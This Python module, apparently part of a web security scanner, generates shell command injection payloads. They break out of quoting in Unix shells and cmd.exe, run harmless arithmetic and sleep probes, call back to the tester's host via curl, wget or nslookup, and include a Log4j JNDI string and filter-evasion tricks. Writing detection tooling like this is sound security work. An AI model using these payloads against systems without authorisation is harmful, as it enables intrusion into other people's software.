"""Payloads of `rce`: ways out of a shell's quoting and into a command of our own, which only computes, prints and waits.

In a pattern `{value}` stands for the baseline's value, `{print}` for a command that prints a product which is nowhere in
the request, `{wait}` for one that waits. One payload serves the unquoted, the single-quoted and the double-quoted
context: what stands behind the quote that closes runs, and the rest of the line is a comment. In none of them does the
wait run twice.
"""

import re
from typing import NamedTuple


class Way(NamedTuple):
    """A way to get a command run. blank: what stands between a command and its argument.

    bare: prints by a program, with no dollar sign and no bracket, which filters take for the only signs of a command.
    """

    name: str
    pattern: str
    windows: bool = False
    blank: str = " "
    bare: bool = False


class Numbers(NamedTuple):
    """What a payload computes and prints: before, the product, after. Fresh each time."""

    before: str
    left: int
    right: int
    after: str


def _in_quotes(piece: str) -> str:
    """The same piece behind nothing, behind a single quote, and behind a double quote."""
    return "{value}" + "#".join((piece, "'" + piece, '"' + piece)) + "#"


SEQUENCE = Way("a second command, behind ;", _in_quotes(";{print};{wait};"))
# Without the dollar sign and the brackets of the other ways, which some filters take out.
PIPE = Way("a second command, behind |", _in_quotes("|{wait}|{print} "), bare=True)
AND = Way("a second command, behind &&", _in_quotes("&&{print}&&{wait} "))
# No comment ends with a line here: who has run it leaves the shell, and what stands behind other quotes is not run again.
LINE = Way("a second command, on a line of its own", _in_quotes("\n{print}\n{wait}\nexit "), bare=True)
# One behind the other: filters look for what stands between two commands. What waits prints nothing.
SUBSTITUTED = Way("a command in $()", "{value}$({print})$({wait})", blank="${IFS}")
SUBSTITUTED_IN_QUOTES = Way("a command in $(), between single quotes", "{value}'$({print})$({wait})'", blank="${IFS}")
BACKTICKS = Way("a command in backticks", "{value}`{print}``{wait}`")
# cmd.exe knows double quotes only, and `set /a` prints what it computes.
WINDOWS = Way("a second command, behind & (Windows)", '{value}&{print}&{wait}&rem "&{print}&{wait}&rem ', windows=True)

# Of 33 signs and without the value, for those who take no long ones. Nothing is printed.
IN_FEW_SIGNS = Way("a second command, in few signs", ";{wait};#';{wait};#\";{wait};#")

FOR_ALL = (SEQUENCE, PIPE, SUBSTITUTED)
FOR_NUMBERS = (SEQUENCE, SUBSTITUTED)
# For values that are likely to stand in a command line.
FOR_COMMANDS = (SEQUENCE, PIPE, SUBSTITUTED, LINE, AND, BACKTICKS)
FOR_WINDOWS = (WINDOWS, SEQUENCE)
# Names of files: Ruby's open runs what stands behind a pipe (Kernel#open), Perl's what stands before one (perlopentut).
# What does nothing comes first, because a folder may stand before it; not the value, which would be run.
OPENED = Way("a command in the place of a file's name, behind |", "|{print};{wait};#{value}")
OPENED_BEFORE = Way("a command in the place of a file's name, before |", ":;{print};{wait}|")
FOR_FILES = (*FOR_COMMANDS, OPENED, OPENED_BEFORE)
# What leaves the line as it is: a command whose other arguments were cut off, as the file that grep looks into, waits for
# input that nobody gives.
FOR_WHOLE_LINES = (SUBSTITUTED, SUBSTITUTED_IN_QUOTES)

# Asks for an address of ours, with the product of two numbers behind it, which a shell alone computes. In the background,
# so that nobody waits for it; no value of the target is part of what is asked for. The line stays as it is, so that it may go
# on in any way, as where all of it is sent to the background in brackets. Within single quotes the second is run alone, else
# the first.
CALLING = Way("a command that asks for our address, in $()", "{value}$( {call})'$( {call})'")
CALLING_WINDOWS = Way(
    "a second command that asks for our address (Windows)", '{value}&{call}&rem "&{call}&rem ', windows=True
)
_FETCH = "(curl -sm5 {url}/$(({task}))||wget -qT5 -O- {url}/$(({task})){look_up})>/dev/null 2>&1&"
_LOOK_UP = "||nslookup $(({task})).{host}"
_FETCH_WINDOWS = "for /f %i in ('set /a {task}') do curl -sm5 {url}/%i >nul"

# What Log4j 2 looked up in any text that it was to log, before 2.15, and others after it.
LOOK_UP_IN_LOGS = "${jndi:{url}}"

# Look like the command that waits, and are none.
LOOKALIKES = ("slepe", "sleap", "slleep")


def ways_of(*, number: bool, lines: bool) -> tuple[Way, ...]:
    """The ways for a value that is not likely to stand in a command line. lines: whether it may be checked line by line."""
    ways = FOR_NUMBERS if number else FOR_ALL
    return (*ways, LINE) if lines else ways


def unended(way: Way) -> Way:
    """The way for a request that may change something: what stands first behind the value, or behind a quote, is no semicolon.

    In SQL that would end a statement before its condition, and databases that run one statement after the other (SQLite's
    scripts, MySQL with several statements) would change all rows. An ampersand makes all of it an error there.
    """
    pattern = way.pattern.replace("{value};", "{value}&").replace("';", "'&").replace('";', '"&')
    pattern = f"&{pattern[1:]}" if pattern.startswith(";") else pattern
    return way._replace(name=way.name.replace("behind ;", "behind &"), pattern=pattern)


def fill(way: Way, value: str, numbers: Numbers, wait: int, *, tame: bool = False, lookalike: str = "") -> str:
    """The payload. wait: seconds. tame: prints the task itself, for the control. lookalike: stands for what waits."""
    task = f"{numbers.left}*{numbers.right}"
    if way.windows:
        computing = f"echo {task}" if tame else f"set /a {task}"
        # The first ping goes out at once, so that n + 1 of them take n seconds.
        waiting = f"{lookalike or 'ping'} -n {wait + 1} 127.0.0.1 >nul"
    elif way.bare:
        # The star in quotes of neither kind, which would end what the value stands in.
        computing = f"echo {task}" if tame else f"expr {numbers.left} \\* {numbers.right}"
        waiting = f"{lookalike or 'sleep'} {wait}"
    else:
        # Bare parentheses would be a syntax error; escaped ones are text.
        shown = rf"\(\({task}\)\)" if tame else f"$(({task}))"
        computing = f"echo{way.blank}{numbers.before}{shown}{numbers.after}"
        waiting = f"{lookalike or 'sleep'}{way.blank}{wait}"
    return way.pattern.replace("{print}", computing).replace("{wait}", waiting).replace("{value}", value)


def fill_call(way: Way, value: str, left: int, right: int, url: str, host: str = "") -> str:
    """The payload of a way that asks for an address of ours. host: the address as a name, where there is a zone."""
    task = f"{left}*{right}"
    look_up = _LOOK_UP.format(task=task, host=host) if host else ""
    call = (_FETCH_WINDOWS if way.windows else _FETCH).format(url=url, task=task, look_up=look_up)
    return way.pattern.replace("{call}", call).replace("{value}", value)


def expected(way: Way, numbers: Numbers) -> str:
    """What the answer shows where the payload ran."""
    product = str(numbers.left * numbers.right)
    return product if way.windows or way.bare else f"{numbers.before}{product}{numbers.after}"


def shows(way: Way, numbers: Numbers, text: str) -> bool:
    """Whether a text shows it. Behind the word that prints, it is no command's output: a template computed it in its place."""
    wanted = expected(way, numbers)
    return text.count(wanted) > text.count(f"echo{way.blank}{wanted}")


_COMMAND_NAMED = re.compile(
    r"cmd|command|exec|run|shell|ping|host|addr|domain|target|server|ip$|ip_|dns|lookup|trace|port|daemon|process|tool"
    r"|file|path|dir|archive|convert|format|size|backup|log|filter|grep|option|arg",
    re.IGNORECASE,
)
_COMMAND_LIKE = re.compile(r"(?:\d{1,3}\.){3}\d{1,3}|[\w-]+(?:\.[\w-]+)+|.*[/\\].*")
_FETCHED = re.compile(r"(?:https?|ftp)://", re.IGNORECASE)
_FILE_LIKE = re.compile(r"[^:?]*\.[A-Za-z]\w{0,4}|[^:?]*/[^:?]*")


def is_named_for_commands(parameter: str) -> bool:
    """Whether a parameter by its name is likely to stand in a command line."""
    return _COMMAND_NAMED.search(parameter) is not None


def is_word_of_commands(value: str) -> bool:
    """Whether a value looks like what command lines are made of: a host, an address, a file."""
    return _COMMAND_LIKE.fullmatch(value) is not None


def may_name_a_file(value: str) -> bool:
    """Whether such a value looks like a file's name."""
    return _FILE_LIKE.fullmatch(value) is not None


def is_fetched(value: str) -> bool:
    """Whether such a value is an address, which Ruby's `open` fetches, or runs where it begins with a pipe (open-uri)."""
    return _FETCHED.match(value) is not None
